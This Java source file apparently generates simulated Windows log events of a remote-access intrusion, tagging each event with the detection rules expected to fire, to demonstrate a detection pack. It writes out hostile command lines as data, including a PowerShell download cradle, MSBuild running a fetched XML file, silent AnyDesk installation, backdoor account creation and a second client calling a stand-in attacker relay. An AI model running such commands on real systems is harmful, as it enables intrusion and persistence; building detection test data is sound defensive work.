package dev.tocsin.connector.demo.events;

import java.time.Instant;
import java.util.ArrayList;
import java.util.List;

/**
 * The acts of the intrusion on one server. What was published decides which acts there are: entry by the supplier's
 * ScreenConnect server, commands and files through it, MSBuild with an XML file, work by way of the print spooler, AnyDesk
 * and further ScreenConnect instances, an attempt at an account. How each act looks in the logs, its time and every name in
 * it are invented.
 */
final class IntrusionScript {
    private static final String SUPPLIER_RELAY = "rs.tdsclinical.com";
    private static final String OTHER_RELAY = "relay.attacker.example";
    private static final String SUPPLIER_INSTANCE = "0f1e2d3c4b5a6978";
    private static final String OTHER_INSTANCE = "8796a5b4c3d2e1f0";
    private static final String PAYLOAD = "C:\\Windows\\Temp\\text.xml";
    private static final String DOWNLOAD_SERVER = "203.0.113.66";
    private static final String BACKUP_EXPLOIT = "45c8716c69f56e26c98369e626e0b47d7ea5e15d3fb3d97f0d5b6e8997299d1a";

    private final EventLog log;
    private final List<Step> steps = new ArrayList<>();
    private final RunningProgram services;
    private final RunningProgram client;
    private Instant now = Instant.EPOCH;

    IntrusionScript(EventLog log) {
        this.log = log;
        this.services = log.systemProcess(Programs.SERVICES, "C:\\Windows\\system32\\services.exe");
        this.client = log.systemProcess(
                Programs.screenConnect(SUPPLIER_INSTANCE, "ClientService"),
                Relay.commandLine(SUPPLIER_INSTANCE, "ClientService", SUPPLIER_RELAY, 8_041));
    }

    /** A step with its time, by which the steps of several servers are put in order. */
    record Step(Instant time, DemoEvent event) {}

    List<Step> steps() {
        return List.copyOf(steps);
    }

    /** Sets the time at which the next act begins. */
    IntrusionScript at(Instant time) {
        now = time;
        return this;
    }

    void entry() {
        add(
                "ScreenConnect client of the supplier's relay starts",
                log.processCreated(tick(), client, services),
                PackRules.UNAPPROVED_RELAY,
                PackRules.INDICATORS);
        add(
                "the client asks for the supplier's relay",
                log.nameResolved(tick(), client, SUPPLIER_RELAY, "192.0.2.80"),
                PackRules.RELAY_QUERY,
                PackRules.INDICATORS);
    }

    void commands() {
        command();
        RunningProgram shell = log.systemProcess(Programs.POWERSHELL, Relay.powershell(log.guid()));
        add(
                "a PowerShell script comes through ScreenConnect",
                log.processCreated(tick(), shell, client),
                PackRules.SCREENCONNECT_POWERSHELL,
                PackRules.INDICATORS);
    }

    void delivery() {
        RunningProgram command = command();
        String cradle =
                "(New-Object Net.WebClient).DownloadFile('http://" + DOWNLOAD_SERVER + "/text.xml','" + PAYLOAD + "')";
        RunningProgram shell = log.systemProcess(Programs.POWERSHELL, "powershell.exe -nop -c \"" + cradle + "\"");
        add("WebClient fetches the XML file", log.processCreated(tick(), shell, command), PackRules.WEBCLIENT_PROCESS);
        add(
                "the script block of a ScreenConnect script downloads",
                log.scriptRun(tick(), cradle, Relay.script(log.guid(), "run.ps1")),
                PackRules.WEBCLIENT_SCRIPT);
        RunningProgram window = log.systemProcess(
                Programs.screenConnect(SUPPLIER_INSTANCE, "WindowsClient"),
                "\""
                        + Programs.screenConnect(SUPPLIER_INSTANCE, "WindowsClient")
                                .image() + "\"");
        add(
                "ScreenConnect writes an XML file that the operator sends",
                log.fileCreated(tick(), window, "C:\\Users\\Public\\Documents\\ConnectWiseControl\\Temp\\text.xml"),
                PackRules.XML_FILE);
        add(
                "the Application log tells of the transfer",
                log.screenConnect(tick(), 201, "Transferred files with action 'Transfer':\ntext.xml", client),
                PackRules.XML_TRANSFER);
    }

    void payload(List<String> addresses) {
        RunningProgram command = command();
        RunningProgram build = log.systemProcess(Programs.MSBUILD, Programs.MSBUILD.image() + " " + PAYLOAD);
        add(
                "MSBuild builds text.xml",
                log.processCreated(tick(), build, command),
                PackRules.SCREENCONNECT_MSBUILD,
                PackRules.MSBUILD_XML,
                PackRules.INDICATORS);
        add(
                "the Security log has MSBuild with the XML file too",
                log.processAudited(tick(), build, command),
                PackRules.MSBUILD_XML,
                PackRules.INDICATORS);
        for (String address : addresses) {
            add(
                    "MSBuild connects to a listed address",
                    log.connected(tick(), build, address, 443),
                    PackRules.MSBUILD_NETWORK,
                    PackRules.INDICATORS);
        }
        add(
                "MSBuild connects elsewhere",
                log.connected(tick(), build, DOWNLOAD_SERVER, 8_443),
                PackRules.MSBUILD_NETWORK);
    }

    void spooler() {
        RunningProgram tool = log.systemProcess(
                Program.of("C:\\Windows\\Temp\\p64.exe", "p64", "unknown"), "C:\\Windows\\Temp\\p64.exe -c cmd");
        String guid = log.guid();
        add(
                "a second spooler pipe appears",
                log.pipeCreated(tick(), tool, "\\" + guid.substring(1, guid.length() - 1) + "\\pipe\\spoolss"),
                PackRules.SPOOLER_PIPE);
        RunningProgram spooler = log.systemProcess(Programs.SPOOLER, "C:\\Windows\\System32\\spoolsv.exe");
        RunningProgram shell = log.systemProcess(Programs.CMD, "cmd.exe /c C:\\Windows\\Temp\\s.cmd");
        add("the print spooler starts a shell", log.processCreated(tick(), shell, spooler), PackRules.SPOOLER_CHILD);
    }

    void anyDesk() {
        RunningProgram command = command();
        Program dropped = Program.of("C:\\ProgramData\\AnyDesk.exe", "AnyDesk", "AnyDesk Software GmbH");
        RunningProgram install = log.systemProcess(
                dropped, dropped.image() + " --install \"C:\\Program Files (x86)\\AnyDesk\" --start-with-win --silent");
        add(
                "AnyDesk is installed silently through ScreenConnect",
                log.processCreated(tick(), install, command),
                PackRules.ANYDESK_SILENT,
                PackRules.ANYDESK_FOLDER,
                PackRules.SECOND_TOOL);
        String path = "\"" + Programs.ANYDESK.image() + "\" --service";
        add(
                "the AnyDesk service is installed (System)",
                log.serviceInstalled(tick(), "AnyDesk Service", path),
                PackRules.ANYDESK_SERVICE_7045);
        add(
                "the AnyDesk service is installed (Security)",
                log.serviceInstallationAudited(tick(), "AnyDesk Service", path),
                PackRules.ANYDESK_SERVICE_4697);
    }

    void account() {
        RunningProgram command = command();
        RunningProgram net = log.systemProcess(Programs.NET, "net user svc_demo Ex4mple-Only /add");
        add(
                "an account is created through ScreenConnect",
                log.processCreated(tick(), net, command),
                PackRules.ACCOUNT_BY_SCREENCONNECT);
        add(
                "the Security log has an account created by SYSTEM",
                log.accountCreated(tick(), "svc_demo", ""),
                PackRules.ACCOUNT_BY_SYSTEM);
    }

    void secondInstance() {
        RunningProgram command = command();
        RunningProgram installer = log.systemProcess(
                Programs.MSIEXEC, "msiexec.exe /i C:\\Windows\\Temp\\ScreenConnect.ClientSetup.msi /qn");
        add(
                "a further ScreenConnect client is installed through the first",
                log.processCreated(tick(), installer, command),
                PackRules.SECOND_TOOL);
        String service = "ScreenConnect Client (" + OTHER_INSTANCE + ")";
        String path = Relay.commandLine(OTHER_INSTANCE, "ClientService", OTHER_RELAY, 8_041);
        add(
                "the service of a further ScreenConnect instance (System)",
                log.serviceInstalled(tick(), service, path),
                PackRules.SCREENCONNECT_SERVICE_7045);
        add(
                "the service of a further ScreenConnect instance (Security)",
                log.serviceInstallationAudited(tick(), service, path),
                PackRules.SCREENCONNECT_SERVICE_4697);
        RunningProgram other = log.systemProcess(Programs.screenConnect(OTHER_INSTANCE, "ClientService"), path);
        add("the further client starts", log.processCreated(tick(), other, services), PackRules.UNAPPROVED_RELAY);
        add(
                "the further client asks for its relay",
                log.nameResolved(tick(), other, OTHER_RELAY, "203.0.113.77"),
                PackRules.RELAY_QUERY);
    }

    void backupExploit() {
        RunningProgram tool = log.systemProcess(
                Program.of("C:\\Windows\\Temp\\v.exe", "v", "unknown").withSha256(BACKUP_EXPLOIT), "v.exe 10.20.0.40");
        add(
                "a file with a listed hash runs",
                log.processCreated(tick(), tool, log.systemProcess(Programs.CONHOST, "conhost.exe 0xffffffff")),
                PackRules.INDICATORS);
    }

    /** The operator sends a command. */
    private RunningProgram command() {
        RunningProgram shell = log.systemProcess(Programs.CMD, Relay.command(log.guid(), "run.cmd"));
        add(
                "a command comes through ScreenConnect",
                log.processCreated(tick(), shell, client),
                PackRules.SCREENCONNECT_COMMAND,
                PackRules.INDICATORS);
        add(
                "the Application log tells of a command",
                log.screenConnect(tick(), 200, "Executed command of length: 74", client),
                PackRules.COMMAND_EVENT);
        return shell;
    }

    private void add(String step, WindowsEvent event, String... expectedRules) {
        steps.add(new Step(
                event.time(),
                new DemoEvent(DocumentWriter.DATA_STREAM, DocumentWriter.json(event), step, List.of(expectedRules))));
    }

    private Instant tick() {
        now = now.plusMillis(1_730);
        return now;
    }
}
